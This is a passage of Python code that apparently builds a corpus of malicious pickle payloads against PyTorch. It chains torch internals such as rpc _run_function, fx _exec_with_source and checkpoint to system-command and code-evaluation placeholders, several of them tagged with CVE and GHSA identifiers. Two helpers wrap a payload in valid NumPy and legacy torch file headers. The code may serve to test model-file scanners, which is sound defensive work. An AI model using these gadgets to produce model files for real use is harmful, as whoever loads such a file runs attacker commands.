    add(t, "torch parse_type_line", Call("torch.jit.annotations:parse_type_line", f"# type: ({EXPRESSION}) -> int", Call("torch.jit.annotations:EvalEnv", G("builtins:print")), 1), "CVE-2022-45907", "GHSA-47fc-vmwq-366v")
    add(t, "torch.fx _exec_with_source", Call("torch.fx.graph_module:_exec_with_source", PYTHON, {}))
    add(t, "torch.fx _forward_from_src", Call("torch.fx.graph_module:_forward_from_src", PYTHON + "\ndef forward():pass", {}))
    add(t, "torch.fx reduce_graph_module", Call("torch.fx.graph_module:reduce_graph_module", {"_code": PYTHON + "\ndef forward(self): pass"}, ""))
    add(t, "torch load_config", Call("torch.utils._config_module:ConfigModule.load_config", Call("torch.utils._config_module:ConfigModule", "m"), NESTED), "GHSA-vv6j-3g6g-2pvj", "CVE-2025-71348")
    add(t, "torch GuardBuilder.get", Call("torch._dynamo.guards:GuardBuilder.get", Build(New("types:SimpleNamespace"), {"scope": {}}), EXPRESSION), "GHSA-86cj-95qr-2p4f")
    add(t, "torch evaluate_guards_expression", Call("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", None, EXPRESSION, []), "GHSA-f4x7-rfwp-v3xw")
    add(t, "torch.hub.load", Call("torch.hub:_load_local", ".", "hub_entry"))
    add(t, "torch.hub.import_module", Call("torch.hub:_import_module", "m", f"{COMPANION}.py"))
    add(t, "torch rpc", Call("torch.distributed.rpc.internal:_run_function", Call("torch.distributed.rpc.internal:PythonUDF", SYSTEM, (SHELL,), {})), "CVE-2024-5480")
    add(t, "torch RemoteModule", Call("torch.distributed.nn.jit.instantiator:_do_instantiate_remote_module_template", "castellan_generated", {"assign_module_interface_cls": PYTHON}, False), "CVE-2024-48063")
    add(t, "torch ops.load_library", Call("torch:ops.load_library", f"./{COMPANION}.so"))
    add(t, "torch.utils.benchmark", Call("torch.utils.benchmark:Timer.timeit", Call("torch.utils.benchmark:Timer", PYTHON), 1))
    add(t, "torch.multiprocessing.spawn", Call("torch.multiprocessing:Process.run", Call("torch.multiprocessing:Process", None, SYSTEM, None, (SHELL,))))
    add(t, "torch.fx Interpreter", Call("torch.fx.interpreter:Interpreter.call_function", None, SYSTEM, (SHELL,), {}))
    add(t, "torch pytree tree_map", Call("torch.utils._pytree:tree_map", SYSTEM, [SHELL]))
    add(t, "torch _map_normalize", Call("torch.fx.node:map_aggregate", (SHELL,), SYSTEM))
    add(t, "torch checkpoint", Call("torch.utils.checkpoint:checkpoint", SYSTEM, SHELL))
    add(t, "torch DataLoader worker", Call("torch.utils.data._utils.pin_memory:pin_memory", Build(New("types:SimpleNamespace"), {"pin_memory": Call("functools:partial", SYSTEM, SHELL)})))

    reach(add)
    return out


def npy_object(payload):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + payload


def torch_legacy(payload):
    magic = dump(0x1950A86A20F9469CFC6C, 2)
    return magic + dump(1001, 2) + dump({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2) + payload + dump([], 2)
